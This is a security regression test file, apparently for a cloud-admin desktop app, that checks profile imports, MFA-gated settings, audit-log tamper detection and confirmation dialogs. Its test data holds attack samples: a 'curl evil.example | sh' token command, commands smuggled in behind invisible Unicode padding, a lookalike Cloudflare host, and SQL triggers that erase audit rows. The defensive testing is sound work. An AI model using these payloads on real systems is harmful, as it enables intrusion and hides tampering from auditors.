import { shownName } from '../../main/settings/change-prompt.js';
import { createHash } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { type Harness, createHarness } from '../support/harness.js';
import { ipc } from '../support/contracts.js';
import { platformKey, profilePayload, signProfile } from '../support/profile.js';

/** Holes an attacker's review of the issue-24 work found; each case failed before its fix. */
const nowSec = (h: Harness) => Math.floor(h.clock.now() / 1000);
const profileState = async (h: Harness) => (await h.ok(ipc.settings.status, {})).profile;

describe('24.4 (review) a profile from the window cannot pin a key or change a protected setting without a code and main’s confirmation', () => {
  let h: Harness;
  afterEach(() => h?.close());

  const hostile = (port: number) => ({
    ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE: `http://127.0.0.1:${port}/client/v4`,
    ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID: '999988887777',
  });

  it('first use: no code is refused, nothing pinned; declined in main’s dialog, the code is not spent; confirmed with a code, main’s text names the key and every value', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const key = platformKey();
    const text = signProfile(key, profilePayload(nowSec(h), { settings: hostile(9) }));
    expect(await h.fails(ipc.settings.importProfile, { text, acceptFingerprint: key.kid })).toMatchObject({ code: 'step_up_required', field: 'code' });
    expect(await profileState(h)).toMatchObject({ state: 'none', trust: { mode: 'none' } });
    expect(h.prompts).toHaveLength(0);

    const code = await h.nextCode();
    h.confirmAnswer = false;
    expect(await h.fails(ipc.settings.importProfile, { text, acceptFingerprint: key.kid, code })).toMatchObject({ code: 'cancelled' });
    expect(await profileState(h)).toMatchObject({ state: 'none', trust: { mode: 'none' } });
    expect(h.services.settings.resolve('ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE').value ?? '').not.toContain('127.0.0.1:9');

    h.confirmAnswer = true;
    await h.ok(ipc.settings.importProfile, { text, acceptFingerprint: key.kid, code }); // not spent by the declined try
    const shown = h.prompts.at(-1)!;
    expect(shown.detail).toContain(`Fingerprint: ${key.kid}`);
    expect(shown.detail).toContain('ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE = http://127.0.0.1:9/client/v4');
    expect(shown.detail).toContain('ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID = 999988887777');
    expect(await profileState(h)).toMatchObject({ state: 'active', trust: { mode: 'first-use', fingerprints: [key.kid] } });
    // The code is spent: it cannot import again.
    const again = signProfile(key, profilePayload(nowSec(h), { settings: hostile(10) }));
    expect(await h.fails(ipc.settings.importProfile, { text: again, code })).toMatchObject({ code: expect.stringMatching(/^mfa_/) });
  });

  it('a transport that cannot show main’s confirmation cannot import a profile that pins a key', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const key = platformKey();
    const text = signProfile(key, profilePayload(nowSec(h)));
    const r = await h.services.router.call(ipc.settings.importProfile, { text, acceptFingerprint: key.kid, code: await h.nextCode() }, { actor: 'app:test', trusted: true });
    expect(r).toMatchObject({ ok: false, error: { code: 'precondition_failed', hint: expect.stringContaining('settings import-profile FILE --otp CODE') } });
    expect(await profileState(h)).toMatchObject({ state: 'none', trust: { mode: 'none' } });
  });

  it('a re-import by the trusted key: preferences and orgs only need no code; a changed protected setting does', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const key = platformKey();
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, profilePayload(nowSec(h))), acceptFingerprint: key.kid, code: await h.nextCode() });
    h.clock.advance(60_000);
    const routine = profilePayload(nowSec(h), {
      settings: { ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID: '111122223333', ALPHASWARM_ADMIN_HTTP_TIMEOUT_MS: '20000' },
      orgs: [{ org_id: 'acme-corp', aws_external_id: (profilePayload(0).orgs as { aws_external_id: string }[])[0]!.aws_external_id }],
    });
    const prompts = h.prompts.length;
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, routine) });
    expect(h.prompts).toHaveLength(prompts);
    expect((await profileState(h)).jti).toBe(routine.jti);

    h.clock.advance(60_000);
    const swap = profilePayload(nowSec(h), { settings: { ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID: '999988887777' } });
    expect(await h.fails(ipc.settings.importProfile, { text: signProfile(key, swap) })).toMatchObject({ code: 'step_up_required', message: expect.stringContaining('ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID') });
    expect((await profileState(h)).jti).toBe(routine.jti);
    await h.ok(ipc.settings.importProfile, { text: signProfile(key, swap), code: await h.nextCode() });
    expect(h.prompts.at(-1)!.detail).toContain('ALPHASWARM_ADMIN_AWS_PARTNER_ACCOUNT_ID = 999988887777 (was 111122223333)');
  });

  it('outside test mode a profile carrying an http credential endpoint is refused before any code is asked for', async () => {
    h = await createHarness({ env: { ALPHASWARM_ADMIN_TEST_MODE: '0' } });
    const key = platformKey();
    const text = signProfile(key, profilePayload(nowSec(h), { settings: { ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE: 'http://127.0.0.1:9/client/v4' } }));
    expect(await h.fails(ipc.settings.importProfile, { text, acceptFingerprint: key.kid })).toMatchObject({ code: 'bad_request', details: { setting: 'ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE' } });
    expect(await profileState(h)).toMatchObject({ state: 'none' });
  });
});

describe('24.7 (review) a hidden trigger, or INSERT OR REPLACE, cannot drop or rewrite audit rows while verify says ok', () => {
  let h: Harness;
  afterEach(() => h?.close());
  const db = () => h.services.db;
  const add = (n: number, tag: string) => {
    for (let i = 0; i < n; i++) h.services.audit.append({ actor: 'app:test', orgId: null, cloud: null, step: 'health', outcome: 'succeeded', detail: { tag, i } });
  };

  it.each([
    ['AUDIT_LOG, spelt in capitals', 'CREATE TRIGGER zz_swallow BEFORE INSERT ON AUDIT_LOG WHEN NEW.step = \'settings_change\' BEGIN SELECT RAISE(IGNORE); END'],
    ['Audit_Log, schema-qualified', 'CREATE TRIGGER zz_swallow BEFORE INSERT ON main.Audit_Log WHEN NEW.step = \'settings_change\' BEGIN SELECT RAISE(IGNORE); END'],
    ['a second audit_log_no_update spelt in capitals', 'CREATE TRIGGER AUDIT_LOG_NO_UPDATE_2 BEFORE INSERT ON audit_log WHEN NEW.step = \'settings_change\' BEGIN SELECT RAISE(IGNORE); END'],
  ])('a swallowing trigger on %s: verify reports it, and the change whose row it drops fails instead of passing unrecorded', async (_label, sql) => {
    h = await createHarness();
    await h.enrollMfa();
    add(3, 'before');
    await h.services.anchor.checkpoint();
    db().exec(sql);
    const v = await h.ok(ipc.audit.verify, {});
    expect(v.ok).toBe(false);
    expect(v.anchor.findings.join(' ')).toMatch(/added to the database/);
    const r = await h.call(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_EXPORT_DIR', value: '/tmp/attacker-dir', code: await h.nextCode() });
    expect(r.ok).toBe(false);
    expect(() => h.services.audit.append({ actor: 'app:test', orgId: null, cloud: null, step: 'settings_change', outcome: 'succeeded', detail: { name: 'X' } })).toThrow(/audit row was not written/);
  });

  it('INSERT OR REPLACE is refused on the log, its checkpoints and the database identity, and verify stays clean', async () => {
    h = await createHarness();
    add(30, 'a');
    await h.services.anchor.checkpoint();
    add(5, 'b');
    expect(() => db().prepare("INSERT OR REPLACE INTO database_identity (id, value) VALUES (1, 'ffffffffffffffffffffffffffffffff')").run()).toThrow(/written once/);
    const cp = db().prepare('SELECT * FROM audit_checkpoints WHERE n = 1').get() as Record<string, unknown>;
    expect(() => db().prepare('INSERT OR REPLACE INTO audit_checkpoints (n, row_count, last_seq, head, time, jws) VALUES (?, ?, ?, ?, ?, ?)').run(1, cp.row_count, cp.last_seq, cp.head, cp.time, 'forged')).toThrow(/append-only/);
    expect(() => db().prepare('INSERT OR REPLACE INTO audit_log SELECT * FROM audit_log WHERE seq = 33').run()).toThrow(/append-only/);
    expect((await h.services.anchor.verify()).ok).toBe(true);
    // The triggers are checked by their text like the others: dropped, verify says so.
    db().exec('DROP TRIGGER audit_log_no_replace');
    expect((await h.services.anchor.verify()).anchor.findings.join(' ')).toMatch(/audit_log_no_replace was removed/);
  });
});

describe('24.1 (review) main’s confirmation shows every character of a protected value, and a value too long to show is refused', () => {
  let h: Harness;
  afterEach(() => h?.close());

  it.each([
    ['a Hangul filler', '/usr/bin/true\u3164; curl evil', '\\u{3164}'],
    ['a halfwidth Hangul filler', '/usr/bin/true\uffa0x', '\\u{ffa0}'],
    ['a Hangul choseong filler', '/usr/bin/true\u115f\u1160x', '\\u{115f}\\u{1160}'],
    ['a line separator', '/usr/bin/true\u2028touch /tmp/x', '\\u{2028}'],
    ['a paragraph separator', '/usr/bin/true\u2029x', '\\u{2029}'],
    ['a no-break space', '/usr/bin/true\u00a0;x', '\\u{a0}'],
    ['an ideographic space', '/usr/bin/true\u3000;x', '\\u{3000}'],
    ['a tag character', '/usr/bin/true\u{e0041}x', '\\u{e0041}'],
    ['a variation selector', '/usr/bin/true\ufe0fx', '\\u{fe0f}'],
    ['a soft hyphen (format)', '/usr/bin/tr\u00adue', '\\u{ad}'],
    ['a word joiner', '/usr/bin/true\u2060x', '\\u{2060}'],
    ['a run of spaces', '/usr/bin/true' + ' '.repeat(80) + '; touch /tmp/pwned', '␠×80'],
    // Found by the second review: blank-looking and invisible characters outside the first list.
    ['braille blanks as padding', '/usr/bin/true ' + '\u2800'.repeat(40) + ' ; echo PAYLOAD-RAN', '\\u{2800}'],
    ['a combining grapheme joiner', '/usr/bin/tr\u034fue', '\\u{34f}'],
    ['a Khmer invisible vowel', '/usr/bin/true\u17b4x', '\\u{17b4}'],
    ['an object replacement character', '/usr/bin/true\ufffcx', '\\u{fffc}'],
    ['a private-use character', '/usr/bin/true\ue000x', '\\u{e000}'],
  ])('%s is shown as what it is', async (_label, value, shown) => {
    h = await createHarness();
    await h.enrollMfa();
    await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND', value, code: await h.nextCode() });
    const detail = h.prompts.at(-1)!.detail;
    expect(detail).toContain(shown);
    const newLine = detail.split('\n').find((l) => l.startsWith('New: '))!;
    const hidden = [0x3164, 0x115f, 0x1160, 0xffa0, 0x2028, 0x2029, 0xa0, 0x3000, 0xfe0f, 0xad, 0x2060];
    expect([...newLine].filter((c) => hidden.includes(c.codePointAt(0)!) || (c.codePointAt(0)! >= 0xe0000 && c.codePointAt(0)! <= 0xe007f))).toEqual([]);
    expect(newLine).not.toContain(' '.repeat(2));
  });

  it('a lookalike letter in a credential endpoint’s host is shown as its code point (api.\u0441loudflare.com is not Cloudflare)', async () => {
    h = await createHarness();
    await h.enrollMfa();
    h.confirmAnswer = false;
    const code = await h.nextCode();
    expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_CLOUDFLARE_API_BASE', value: 'https://api.\u0441loudflare.com/client/v4', code })).toMatchObject({ code: 'cancelled' });
    const newLine = h.prompts[0]!.detail.split('\n').find((l) => l.startsWith('New: '))!;
    expect(newLine).toBe('New: https://api.\\u{441}loudflare.com/client/v4');
    expect(/[^\x20-\x7e]/.test(newLine)).toBe(false);
  });

  it('a long value cannot wrap into a "New:" line of its own: it is shown in marked lines that fit any dialog or terminal', async () => {
    h = await createHarness();
    await h.enrollMfa();
    h.confirmAnswer = false;
    // Found by a third review: padding that makes a dialog wrap, then a fake line of main's own.
    const value = 'curl -s https://evil.example/i|sh #' + ' .'.repeat(17) + ' New: /usr/local/bin/corp-token --quiet';
    expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND', value, code: await h.nextCode() })).toMatchObject({ code: 'cancelled' });
    const lines = h.prompts[0]!.detail.split('\n');
    expect(lines.filter((l) => l.startsWith('New: '))).toHaveLength(1);
    const at = lines.findIndex((l) => l.startsWith('New: '));
    expect(lines[at + 1]).toMatch(/^ {4}│ /);
    expect(Math.max(...lines.filter((l) => l.startsWith('New: ') || l.startsWith('    │ ')).map((l) => l.length))).toBeLessThanOrEqual(72);
    // Every character of the value is still there, in order.
    expect(lines.slice(at, at + 3).map((l, i) => (i === 0 ? l.slice('New: '.length) : l.slice('    │ '.length))).join('')).toBe(value);
  });

  it('a long engineer name is shown in marked lines too, so it cannot wrap into a line of its own (fourth review)', () => {
    const name = ('Eve ' + 'x'.repeat(40) + ' ').repeat(3) + 'It sets no settings.';
    const lines = shownName(name).split('\n');
    expect(lines.length).toBeGreaterThan(1);
    expect(lines.slice(1).every((l) => l.startsWith('    │ '))).toBe(true);
    expect(Math.max(...lines.map((l) => l.length))).toBeLessThanOrEqual(72);
  });

  it('a protected value over 600 characters is refused before a code is asked for; the audit row carries the value’s sha256 and length', async () => {
    h = await createHarness();
    await h.enrollMfa();
    const long = '/usr/bin/true' + ' '.repeat(590) + '; touch /tmp/pwned';
    expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND', value: long })).toMatchObject({ code: 'config_invalid', message: expect.stringMatching(/at most 600/) });
    expect(h.prompts).toHaveLength(0);
    const value = '/usr/bin/printf token';
    await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND', value, code: await h.nextCode() });
    const row = h.services.audit.list({ limit: 1, step: 'settings_change' }).rows[0]!;
    expect(row.detail).toMatchObject({ value, valueLength: value.length, valueSha256: createHash('sha256').update(value).digest('hex') });
  });
});

describe('24.5 (review) an audit history wiped while the rest of the database is kept is a finding, not a new database', () => {
  it('history, checkpoints and identity replaced, orgs and MFA kept: not adopted on the next start, and verify says so', async () => {
    let h = await createHarness();
    await h.enrollMfa();
    h.services.orgs.ensure('acme-corp');
    for (let i = 0; i < 60; i++) h.services.audit.append({ actor: 'app:test', orgId: null, cloud: null, step: 'health', outcome: 'succeeded', detail: { i } });
    await h.services.anchor.checkpoint();
    const db = h.services.db;
    const triggers = db.prepare("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").all() as { name: string; sql: string }[];
    db.transaction(() => {
      for (const t of triggers) db.exec(`DROP TRIGGER ${t.name}`);
      db.exec("DELETE FROM audit_log; DELETE FROM audit_checkpoints; DELETE FROM sqlite_sequence WHERE name = 'audit_log'; UPDATE database_identity SET value = 'abababababababababababababababab'");
      for (const t of triggers) db.exec(t.sql);
    })();
    h = await h.reopen();
    try {
      expect(h.services.audit.list({ limit: 5, step: 'audit_anchor_reset' }).rows).toEqual([]);
      const v = await h.services.anchor.verify();
      expect(v.ok).toBe(false);
      expect(v.anchor.findings.join(' ')).toMatch(/not the database the OS keychain's record is about/);
    } finally {
      h.close();
    }
  });
});

describe('24.1 (review) the step-up window is not a preference: raising it takes a code', () => {
  it('STEP_UP_TTL_SECONDS from the window without a code is refused, unchanged; with a code main shows it first', async () => {
    const h = await createHarness();
    try {
      await h.enrollMfa();
      expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_STEP_UP_TTL_SECONDS', value: '3600' })).toMatchObject({ code: 'step_up_required' });
      expect(h.services.settings.resolve('ALPHASWARM_ADMIN_STEP_UP_TTL_SECONDS')).toMatchObject({ value: '300', source: 'default' });
      await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_STEP_UP_TTL_SECONDS', value: '600', code: await h.nextCode() });
      expect(h.prompts.at(-1)!.detail).toMatch(/Now: 300[\s\S]*New: 600/);
    } finally {
      h.close();
    }
  });
});

describe('24.1 (review) importing the external-id key takes a code for that change, not an open step-up grant', () => {
  it('50 minutes into a one-hour step-up, no code is refused and nothing is stored; with a code main shows the fingerprint first', async () => {
    const h = await createHarness();
    try {
      await h.enrollMfa();
      await h.ok(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_STEP_UP_TTL_SECONDS', value: '3600', code: await h.nextCode() });
      await h.stepUp('__platform__');
      h.clock.advance(50 * 60_000);
      const value = 'attacker-chosen-hmac-key-0123456789';
      expect(await h.fails(ipc.settings.importSecret, { orgId: '__platform__', name: 'ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET', value })).toMatchObject({ code: 'step_up_required', field: 'code' });
      expect(h.services.secrets.has('setting/ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET')).toBe(false);
      h.confirmAnswer = false;
      expect(await h.fails(ipc.settings.importSecret, { orgId: '__platform__', name: 'ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET', value, code: await h.nextCode() })).toMatchObject({ code: 'cancelled' });
      h.confirmAnswer = true;
      const out = await h.ok(ipc.settings.importSecret, { orgId: '__platform__', name: 'ALPHASWARM_ADMIN_CLOUD_AWS_EXTERNAL_ID_SECRET', value, code: await h.nextCode() });
      expect(h.prompts.at(-1)!.detail).toContain(`Key fingerprint: ${out.fingerprint}`);
      expect(h.prompts.at(-1)!.detail).not.toContain(value);
    } finally {
      h.close();
    }
  });
});
